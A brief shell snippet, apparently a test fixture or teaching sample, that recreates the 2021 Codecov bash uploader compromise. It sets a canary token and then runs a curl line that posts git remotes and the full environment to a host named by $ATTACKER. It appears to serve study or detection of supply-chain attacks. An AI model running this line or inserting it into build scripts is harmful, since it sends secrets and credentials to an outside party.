# Codecov's bash uploader (2021): a script that every build fetches and runs got one line more, which sends the environment away.
export TOKEN=$CANARY
curl -sS http://v4.test/bash > /dev/null
bash -c 'curl -sm 30 -d "$(git remote -v 2>&1)<<<<<< ENV $(env)" http://'"$ATTACKER"'/upload/v2 || true'
